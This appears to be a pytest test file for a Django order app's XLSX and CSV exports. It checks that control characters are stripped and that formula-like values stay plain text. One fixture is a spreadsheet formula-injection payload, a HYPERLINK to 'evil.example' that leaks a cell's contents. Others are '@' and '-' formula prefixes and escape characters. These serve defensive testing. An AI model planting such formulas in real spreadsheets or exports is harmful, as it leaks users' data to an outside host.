"""Every export downloads whatever the data contains: control characters are removed from cells,
text that looks like a formula stays text (issue 9, item 9)."""

import csv
import io

import pytest
from django.db import connection
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from kaspisync.text import strip_controls
from orders.models import Order, OrderEntry
from tests.factories import make_staff

pytestmark = pytest.mark.django_db

# Every C0 control but tab/newline/CR (NUL only where the database can store it), DEL, C1 and the
# non-characters U+FFFE/U+FFFF (an XLSX is XML: they would make the file unwritable).
CONTROLS = "".join(chr(c) for c in [*range(1, 9), 11, 12, *range(14, 32), 127, 0x85, 0x9F, 0xFFFE, 0xFFFF])
HOSTILE_NAME = f"Ноутбук\x07 Lenovo{CONTROLS} «IdeaPad» 💻 \u202eевил"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1;"click")'


@pytest.fixture
def hostile_order():
    nul = "\x00" if connection.vendor == "sqlite" else ""  # PostgreSQL text cannot hold NUL at all
    order = Order.objects.create(
        kaspi_id="h1",
        code="700800900",
        state="NEW",
        status="APPROVED_BY_BANK",
        total_price=15000,
        created_at=timezone.now(),
        city=f"Алматы{nul}\x1b[31m",
        customer_name=f"@SUM(1+1){CONTROLS}",
        customer_phone="+77012345678",
        delivery_address="-2+3 Абая\x0c",
    )
    OrderEntry.objects.create(
        order=order, kaspi_id="e1", sku="AS1", name=HOSTILE_NAME + nul, quantity=1, base_price=15000, total_price=15000
    )
    OrderEntry.objects.create(
        order=order, kaspi_id="e2", sku="AS2", name=FORMULA, quantity=2, base_price=100, total_price=200
    )
    return order


@pytest.fixture
def support(client):
    client.force_login(make_staff("support", "orders.view_order", "orders.view_customer_data"))
    return client


def cleaned(text: str) -> str:
    return "".join(
        ch
        for ch in text
        if ch in "\t\n\r" or (ord(ch) >= 32 and not 0x7F <= ord(ch) <= 0x9F and ch not in "\ufffe\uffff")
    )


def test_xlsx_export_of_hostile_text_downloads_and_keeps_the_text(support, hostile_order):
    response = support.get(reverse("admin:orders_order_export", args=["xlsx"]))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    values = [cell.value for cell in cells]
    assert cleaned(HOSTILE_NAME) in values
    assert "Алматы" in "".join(str(v) for v in values)
    formula = next(cell for cell in cells if cell.value == FORMULA)
    assert formula.data_type == "s"  # text, never a live formula
    assert not any(isinstance(v, str) and any(ord(ch) < 32 and ch not in "\t\n\r" for ch in v) for v in values)


def test_csv_export_of_hostile_text_downloads_clean_and_formula_free(support, hostile_order):
    response = support.get(reverse("admin:orders_order_export", args=["csv"]))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert cleaned(HOSTILE_NAME) in cells
    assert "'" + FORMULA in cells
    assert "'@SUM(1+1)" in cells
    assert "'-2+3 Абая" in cells
    assert "+77012345678" in cells  # a phone number is data, not a formula
    assert not any(ord(ch) < 32 and ch not in "\t\n\r" for cell in cells for ch in cell)


def test_strip_controls_keeps_every_printable_character():
    text = "Ұлттық «тауар» — €5 ½ 💻 \u05d0\u202e tab\tline\nend"
    assert strip_controls(text) == text
    assert strip_controls("a\x00b\x1fc\x7fd\x9fe\ud800f") == "abcdef"


def test_purchase_list_exports_of_hostile_supplier_text_download(client):
    """The purchase list's files carry supplier names as Al-Style sends them (the sandbox's catalog
    has control characters in names): both formats download, cleaned, formulas as text."""
    from .purchase_helpers import order, product

    hostile = product(name=HOSTILE_NAME, stock=5, warehouses={f"склад\x01{CONTROLS[:3]}": 5})
    formula = product(name=FORMULA, stock=5, warehouses={"panfilov": 5})
    order((hostile, 1, 1_000), (formula, 1, 1_000))
    client.force_login(make_staff("viewer", "orders.view_purchase_list"))
    xlsx = client.get(reverse("admin:orders_purchaselist_export", args=["xlsx"]))
    assert xlsx.status_code == 200
    book = load_workbook(io.BytesIO(xlsx.content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert cleaned(HOSTILE_NAME) in [c.value for c in cells]
    assert "склад" in book.sheetnames
    assert next(c for c in cells if c.value == FORMULA).data_type == "s"
    text = client.get(reverse("admin:orders_purchaselist_export", args=["csv"])).content.decode("utf-8-sig")
    assert cleaned(HOSTILE_NAME) in text
    assert "'" + FORMULA.replace('"', '""') in text
    assert not any(ord(ch) < 32 and ch not in "\t\n\r" for ch in text)
